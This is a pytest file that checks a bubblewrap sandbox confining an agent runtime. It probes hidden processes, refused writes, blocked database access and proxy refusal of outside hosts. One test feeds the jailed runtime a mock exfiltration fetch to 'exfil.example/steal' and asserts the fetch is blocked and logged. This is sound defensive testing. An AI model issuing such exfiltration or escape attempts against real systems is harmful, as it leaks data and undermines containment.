"""A runtime in its jail: what it can see, write and reach, proven by a probe script."""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest

from tests.conftest import TEST_DSN
from tests.database import endpoints
from tests.sandbox.conftest import BUTLER, CANARY, Jailed

pytestmark = pytest.mark.slow


def reachable_here(tcp: list[tuple[str, int]], unix: list[str]) -> bool:
    """Whether the test itself reaches the database at one of these addresses."""
    for host, port in tcp:
        try:
            socket.create_connection((host, port), timeout=3).close()
            return True
        except OSError:
            pass
    for path in unix:
        with socket.socket(socket.AF_UNIX) as sock:
            try:
                sock.connect(path)
                return True
            except OSError:
                pass
    return False


async def test_the_runtime_sees_no_daemon_no_database_and_no_other_file(jailed: Jailed):
    home_of_other = jailed.data / "butlers" / BUTLER / "homes" / "someone-else"
    home_of_other.mkdir(parents=True)
    secret = home_of_other / "transcript.jsonl"
    secret.write_text("private\n")
    tcp, unix = endpoints(TEST_DSN)  # the suite's own database, wherever it runs
    assert reachable_here(tcp, unix), f"the suite's database {tcp or unix} answers no one"
    plan = {
        "canary": CANARY,
        "daemon_pid": jailed.daemon.proc.pid,
        "write": [
            str(jailed.folder / "skills.md"),  # its own folder: allowed
            str(jailed.folder / "butler.toml"),
            str(jailed.folder.parent / "shared" / "NOTE.md"),
            str(secret),
            str(jailed.data / "planted"),
            "/usr/planted",
            str(Path("/tmp") / "private-scratch"),
        ],
        "tcp": [[host, port] for host, port in tcp],
        "unix": unix,
    }
    result = await jailed.run(plan)
    assert result["success"], result["error"]
    report = json.loads(result["output"])
    # Its own processes only: the daemon and its environment are out of sight.
    assert report["canary_in"] == [] and report["daemon"] == "ProcessLookupError"
    assert len(report["pids"]) <= 4, report["pids"]
    writes = report["writes"]
    assert writes[str(jailed.folder / "skills.md")] == "written"
    for refused in (jailed.folder / "butler.toml", jailed.folder.parent / "shared" / "NOTE.md"):
        assert writes[str(refused)] == "OSError", refused  # read-only file system
        assert "JAILBREAK" not in refused.read_text()
    # Absent folders: what the runtime writes there lands in its own private tmpfs.
    assert writes[str(secret)] == "FileNotFoundError" and secret.read_text() == "private\n"
    assert writes["/usr/planted"] == "OSError"
    scratch = Path("/tmp") / "private-scratch"
    assert not (jailed.data / "planted").exists() and not scratch.exists()
    # The database the daemon uses, reachable from the test above, is out of the jail's reach.
    assert all(report["tcp"][f"{h}:{p}"] != "connected" for h, p in tcp), report["tcp"]
    assert all(report["unix"][path] == "FileNotFoundError" for path in unix), report["unix"]


async def test_an_outside_name_is_refused_by_the_proxy_and_recorded(jailed: Jailed):
    plan = {
        "resolve": ["exfil.example"],
        "fetch": ["http://exfil.example/steal?x=1", "https://exfil.example/"],
    }
    result = await jailed.run(plan)
    report = json.loads(result["output"])
    assert report["resolve"]["exfil.example"] == "gaierror"
    plain = report["fetch"]["http://exfil.example/steal?x=1"]
    assert plain.startswith("403 butler sandbox: exfil.example refused"), plain
    assert report["fetch"]["https://exfil.example/"] != "200"
    row = await jailed.row(result["session_id"])
    sandbox = row["metadata"]["sandbox"]
    assert sandbox["mode"] == "bwrap" and sandbox["blocked"] == 2
    assert sandbox["blocked_hosts"] == ["exfil.example"]
    assert "sandbox refused a connection" in jailed.daemon.logs()


async def test_the_runtime_calls_its_butlers_tools_through_the_jail(jailed: Jailed):
    plan = {"mcp": {"tool": "state_set", "arguments": {"key": "from-jail", "value": 42}}}
    result = await jailed.run(plan)
    assert result["success"], result["error"]
    assert "stored" in json.loads(result["output"])["mcp"]
    from tests.helpers import butler_client

    async with butler_client(f"{jailed.daemon.url}/mcp") as client:
        stored = await client.call_tool("state_get", {"key": "from-jail"})
    assert stored.structured_content == {"result": 42}
